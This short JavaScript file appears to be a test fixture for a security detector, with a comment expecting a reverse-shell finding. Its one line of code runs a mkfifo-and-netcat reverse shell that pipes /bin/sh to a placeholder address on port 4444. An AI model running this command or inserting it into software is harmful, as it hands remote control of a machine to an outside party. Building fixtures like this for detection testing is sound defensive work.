// expect: reverse-shell 4:25
const cp = require('child_process');

cp.exec('mkfifo /tmp/p; nc 203.0.113.7 4444 < /tmp/p | /bin/sh > /tmp/p 2>&1');
